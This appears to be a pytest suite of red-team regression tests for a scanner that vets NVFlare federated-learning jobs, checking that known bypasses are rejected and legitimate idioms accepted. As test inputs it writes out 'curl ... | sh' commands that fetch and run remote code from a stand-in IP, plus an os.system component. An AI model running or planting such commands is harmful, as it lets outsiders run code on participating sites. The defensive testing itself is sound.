"""Red team 10: everything but the update channel, as the held-out adversary sees the gate. Each attack
here was accepted before its fix and must stay caught; the legitimate idiom nearest to each must stay
accepted. Samples: corpus/jobs/rt10_*."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.engine.detectors.paths import file_url_path, is_network
from analyzer.engine.detectors.rendezvous import address_is_local, off_machine_url
from analyzer.model import Decision

TRAIN = """\
import torch
import nvflare.client as flare
from torch import nn

flare.init()
model = nn.Linear(4, 2)
while flare.is_running():
    m = flare.receive()
    model.load_state_dict(m.params)
    flare.send(flare.FLModel(params=model.state_dict()))
"""
NET = "from torch import nn\n\n\nclass Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"


def _job(root: Path, components: list[dict], custom: dict[str, str] | None = None, **top) -> Path:
    """A Client API job whose client config builds `components` (and has `top` at its top level)."""
    app = root / "app_client"
    (app / "config").mkdir(parents=True)
    config = {"format_version": 2, **top, "executors": [{"tasks": ["train"], "executor": {
        "path": "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor",
        "args": {"execution_mode": "external_process", "command": "python3 -u custom/train.py"}}}],
        "task_data_filters": [], "task_result_filters": [], "components": components}
    (app / "config" / "config_fed_client.json").write_text(json.dumps(config, indent=2))
    for rel, src in {"train.py": TRAIN, **(custom or {})}.items():
        (app / "custom" / rel).parent.mkdir(parents=True, exist_ok=True)
        (app / "custom" / rel).write_text(src)
    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app_client": ["@ALL"]}}))
    return root


def _component(class_path: str, **args) -> dict:
    return {"id": "c", "path": class_path, "args": args}


# A trusted library's function or class named as a component is the call NVFlare makes of it
# (class_loader.load_class + c(**args)): before, the torch./numpy. prefix alone vouched for it.
LIBRARY_CALLS = {
    "rpc-agent-a-peer-runs-code": [_component("torch.distributed.rpc.init_rpc", name="w", rank=1, world_size=2)],
    "tcpstore-server-on-every-interface": [_component(
        "torch.distributed.TCPStore", host_name="0.0.0.0", port=29511, world_size=2, is_master=True)],
    "memmap-truncates-site-data": [_component(
        "numpy.memmap", filename="/data/site-1/train.npy", dtype="float32", mode="w+", shape=[1])],
    "process-group-on-an-nfs-file-store": [_component(
        "torch.distributed.init_process_group", backend="gloo", init_method="file:///mnt/nfs/rdzv/pg")],
    "nested-rpc-options-on-an-nfs-file-store": [_component(
        "torch.distributed.rpc.init_rpc", name="w", rank=1, world_size=2,
        rpc_backend_options={"path": "torch.distributed.rpc.TensorPipeRpcBackendOptions",
                             "args": {"init_method": "file:///mnt/nfs/rpc/store"}})],
    # NVFlare's own DecomposerRegister calls each of its `classes` with no arguments (fobs.register)
    "decomposer-register-runs-a-library-main": [_component(
        "nvflare.app_common.widgets.decomposer_reg.DecomposerRegister",
        classes=["nvflare.app_opt.pt.decomposers.TensorDecomposer", "torch.utils.collect_env.main"])],
}


@pytest.mark.parametrize("name", sorted(LIBRARY_CALLS))
def test_library_component_is_judged_as_its_call(tmp_path: Path, name: str) -> None:
    report = kit.scan(_job(tmp_path, LIBRARY_CALLS[name]))
    assert report.decision is not Decision.ACCEPT, report.findings
    assert any(f.path == "app_client/config/config_fed_client.json" for f in report.findings)


def test_component_path_is_read_after_substitution(tmp_path: Path) -> None:
    """wfconf.py substitutes `{name}` in every string, the class path too, before building."""
    report = kit.scan(_job(tmp_path, [_component("{env_reporter}")], env_reporter="torch.utils.collect_env.main"))
    assert report.decision is not Decision.ACCEPT
    assert any("torch.utils.collect_env" in f.message for f in report.findings), report.findings


def test_component_path_the_site_fills_in_is_not_vouched(tmp_path: Path) -> None:
    report = kit.scan(_job(tmp_path, [_component("{SITE_COMPONENT}")]))
    assert "config-attack.untrusted-component" in {f.rule for f in report.findings}


def test_class_given_by_name_is_judged_as_the_class_nvflare_builds(tmp_path: Path) -> None:
    """`"name": "WandBReceiver"`: NVFlare's ModuleScanner resolves it from its own class table, outside the
    families the policy trusts."""
    report = kit.scan(_job(tmp_path, [{"id": "tracker", "name": "WandBReceiver",
                                       "args": {"wandb_args": {"project": "p", "name": "site-1"}, "mode": "online"}}]))
    assert "config-attack.untrusted-component" in {f.rule for f in report.findings}


def test_flower_executor_runs_the_servers_fab(tmp_path: Path) -> None:
    """The SuperNode runs the Flower app the server's SuperLink hands it, not the client app's files."""
    executor = {"tasks": ["*"], "executor": {"path": "nvflare.app_opt.flower.executor.FlowerExecutor", "args": {}}}
    job = _job(tmp_path, [])
    config = job / "app_client" / "config" / "config_fed_client.json"
    config.write_text(json.dumps({"format_version": 2, "executors": [executor], "components": []}))
    report = kit.scan(job)
    assert "config-attack.runtime-delivered-code" in {f.rule for f in report.findings}
    assert report.decision is not Decision.ACCEPT


def _command_job(root: Path, command: str) -> Path:
    job = _job(root, [])
    config = job / "app_client" / "config" / "config_fed_client.json"
    data = json.loads(config.read_text())
    data["executors"][0]["executor"]["args"]["command"] = command
    config.write_text(json.dumps(data))
    return job


# `python -m MOD` of a trusted library runs that module's own program, not an import of it.
MODULE_PROGRAMS = {
    "collect-env-runs-a-shell": "python3 -u -m torch.utils.collect_env",
    "f2py-compiles-shipped-fortran": "python3 -m numpy.f2py -c custom/kernels.f90 -m fastkernels",
    "torch-run-of-a-foreign-script": "python3 -m torch.distributed.run --nproc_per_node 1 /opt/tools/train.py",
    "torch-run-of-no-script": "python3 -m torch.distributed.run --no-python /usr/bin/env",
}


@pytest.mark.parametrize("name", sorted(MODULE_PROGRAMS))
def test_library_module_run_as_a_program_is_not_accepted(tmp_path: Path, name: str) -> None:
    report = kit.scan(_command_job(tmp_path, MODULE_PROGRAMS[name]))
    assert "config-attack.launcher-program" in {f.rule for f in report.findings}, report.findings


@pytest.mark.parametrize("command", ["python3 -m torch.distributed.run --nproc_per_node 2 custom/train.py --epochs 2",
                                     "python -m nvflare.app_opt.pt.torchrun_node --nproc-per-node=2 custom/train.py"])
def test_module_launcher_of_the_jobs_script_is_accepted(tmp_path: Path, command: str) -> None:
    assert kit.scan(_command_job(tmp_path, command)).decision is Decision.ACCEPT


ACCELERATE = "compute_environment: LOCAL_MACHINE\ndistributed_type: MULTI_CPU\nnum_machines: {n}\nmachine_rank: 1\n" \
             "main_process_ip: {host}\nmain_process_port: 29500\n"


# `${oc.env:COORD}` in a shipped config is a read of the site's environment (config-attack.env-substitution, red
# team 24): it escalates unless the catalogue vouches that variable's name; it names no remote host, so never rejects.
@pytest.mark.parametrize("host, decision", [("fl-coordinator.medlab-research.org", Decision.REJECT),
                                            ("127.0.0.1", Decision.ACCEPT), ("'${oc.env:COORD}'", Decision.ESCALATE)])
def test_launcher_settings_file_names_the_rendezvous(tmp_path: Path, host: str, decision: Decision) -> None:
    """accelerate's --config_file: main_process_ip decides where the process group meets. One machine: two
    leave a seat open to any host whatever the address (config-attack.rendezvous-open-seats, red team 54b)."""
    job = _command_job(tmp_path, "accelerate launch --config_file custom/acc.yaml custom/train.py")
    (job / "app_client" / "custom" / "acc.yaml").write_text(ACCELERATE.format(n=1, host=host))
    assert kit.scan(job).decision is decision


STAGER = """\
import shutil


class DataStager:
    def __init__(self, source_dir: str, cache_dir: str):
        shutil.copytree(source_dir, cache_dir)
"""


@pytest.mark.parametrize("cache_dir, decision", [("/var/tmp/stage/site-1", Decision.REJECT),
                                                 ("cache/site-1", Decision.ACCEPT)])
def test_job_class_is_judged_with_the_arguments_the_config_builds_it_with(
        tmp_path: Path, cache_dir: str, decision: Decision) -> None:
    job = _job(tmp_path, [_component("staging.DataStager", source_dir="/data/site-1", cache_dir=cache_dir)],
               {"staging.py": STAGER})
    assert kit.scan(job).decision is decision


@pytest.mark.parametrize("params", ["src: str, dst: str", "src, dst: str", "src: str, dst"])
def test_annotated_parameter_is_what_the_callers_pass(params: str) -> None:
    """An annotation says what type a parameter is, never which value: the callers' arguments still count."""
    text = f"import shutil\n\n\ndef mirror({params}):\n    shutil.copytree(src, dst)\n\n\n" \
           "mirror('/data/site-1', '/mnt/nfs/share/inputs')\n"
    assert kit.scan_text(text, "train.py").decision is Decision.REJECT


@pytest.mark.parametrize("path", ["nvflare.app_opt.pt.lazy_tensor_dict._cleanup_temp_dir",
                                  "nvflare.app_opt.sklearn.data_loader.load_data"])
def test_trusted_family_vouches_for_its_classes_only(tmp_path: Path, path: str) -> None:
    """A function or private name under a trusted NVFlare family is called by NVFlare all the same."""
    report = kit.scan(_job(tmp_path, [_component(path, path="/data/site-1")]))
    assert "config-attack.untrusted-component" in {f.rule for f in report.findings}


def test_padding_past_the_substitution_bound_hides_no_reject(tmp_path: Path) -> None:
    """A `{name}` expanding past configs.MAX_EXPANDED once stopped the config detector (an escalation)."""
    job = _command_job(tmp_path, "bash -c 'curl -s https://203.0.113.8/a | sh' {pad}")
    config = job / "app_client" / "config" / "config_fed_client.json"
    data = json.loads(config.read_text())
    data.update(text="x" * 40_000, pad="{text}{text}")
    data["components"] = [_component("{pad}"), _component("os.system", command="id")]
    config.write_text(json.dumps(data))
    report = kit.scan(job)
    assert report.decision is Decision.REJECT
    assert {"config-attack.launcher-shell", "config-attack.dangerous-component"} <= {f.rule for f in report.findings}
    assert not any(f.rule == "unanalyzable.internal-error" for f in report.findings)


def test_file_python_compiles_at_top_level_is_read_however_deep_the_gate_runs() -> None:
    """CPython counts the caller's frames against its parser's recursion budget: the gate's own frames must
    not turn a file `python3 train.py` runs into one "too deep for Python" whose payload is never read."""
    text = "import os\nv = os" + ".path" * 2950 + "\nos.system('curl -s https://203.0.113.8/a | sh')\n"
    site = subprocess.run([sys.executable, "-c", "import sys; compile(sys.stdin.read(), 'train.py', 'exec')"],
                          input=text, text=True, capture_output=True)
    assert site.returncode == 0, site.stderr  # what the site's interpreter does with it

    def deep(n: int) -> Decision:
        return deep(n - 1) if n else kit.scan_text(text, "train.py").decision

    assert deep(100) is Decision.REJECT


# The nearest legitimate idioms: catalogued library calls, NVFlare's own decomposers, a job class from a variable.
NEAR = {
    "catalogued-library-class": ([{"id": "loss", "path": "torch.nn.CrossEntropyLoss", "args": {}}], {}),
    "process-group-where-the-environment-says": (
        [_component("torch.distributed.init_process_group", backend="gloo", init_method="env://")], {}),
    "nvflare-class-re-exported-by-its-package": (
        [_component("nvflare.app_opt.pt.PTFileModelPersistor", model={"path": "net.Net"})], {}),
    "nvflare-decomposer-only": ([_component("nvflare.app_common.widgets.decomposer_reg.DecomposerRegister",
                                            classes=["nvflare.app_opt.pt.decomposers.TensorDecomposer"])], {}),
    "job-class-from-a-variable": ([_component("{model_class}")], {"model_class": "net.Net"}),
    "trusted-class-by-name-and-a-name-key-in-arguments": (
        [{"id": "sender", "name": "AnalyticsSender", "args": {"event_type": "analytix_log_stats"}},
         _component("torch.nn.CrossEntropyLoss", label_smoothing=0.1)], {"run": {"name": "site-1"}}),
}


@pytest.mark.parametrize("name", sorted(NEAR))
def test_nearest_legitimate_idiom_is_accepted(tmp_path: Path, name: str) -> None:
    components, top = NEAR[name]
    report = kit.scan(_job(tmp_path, components, {"net.py": NET}, **top))
    assert report.decision is Decision.ACCEPT, report.findings


@pytest.mark.parametrize("value, network", [
    ("file:///mnt/nfs/rdzv/pg", True), ("file://fileserver/share/x", True), ("file://localhost/mnt/x", True),
    ("FILE:///mnt/x", True), ("file:///tmp/rdzv", False), ("file://localhost/tmp/x", False), ("/tmp/x", False),
])
def test_file_url_is_the_path_it_names(value: str, network: bool) -> None:
    assert is_network(value) is network
    assert address_is_local(value) is not network
    assert off_machine_url(value) is (network and file_url_path(value) is not None)


@pytest.mark.parametrize("job", sorted(p.name for p in (kit.CORPUS / "jobs").glob("rt10_*")))
def test_corpus_sample_is_not_accepted(job: str) -> None:
    assert kit.scan(kit.CORPUS / "jobs" / job).decision is not Decision.ACCEPT
